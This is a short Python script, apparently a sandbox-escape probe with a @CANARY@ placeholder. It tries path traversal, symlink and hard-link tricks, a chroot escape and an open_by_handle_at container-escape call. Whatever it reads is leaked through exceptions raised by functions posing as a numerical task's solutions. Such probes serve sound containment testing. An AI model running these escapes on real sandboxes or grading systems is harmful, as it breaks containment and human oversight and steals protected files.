"""Leaves the root by "..", by links, by chroot and by file handles."""

import ctypes
import os

libc = ctypes.CDLL(None)
FOUND = "nothing"


def look(path):
    global FOUND
    try:
        FOUND = open(path).read()
    except OSError:
        pass


look("../" * 40 + "@CANARY@")
try:
    os.symlink("@CANARY@", "/tmp/link")
    look("/tmp/link")
    os.link("@CANARY@", "/tmp/hard")
except OSError:
    pass
try:
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    os.chdir("../" * 40)
    os.chroot(".")
    look("@CANARY@")
except OSError:
    pass
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0")
descriptor = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
if descriptor >= 0:
    FOUND = "canary: " + " ".join(os.listdir(descriptor))


def tell(*arguments, **options):
    raise ValueError(FOUND)


sgd_factorise = truncated_svd = reconstruction_loss = sgd_factorise_masked = tell
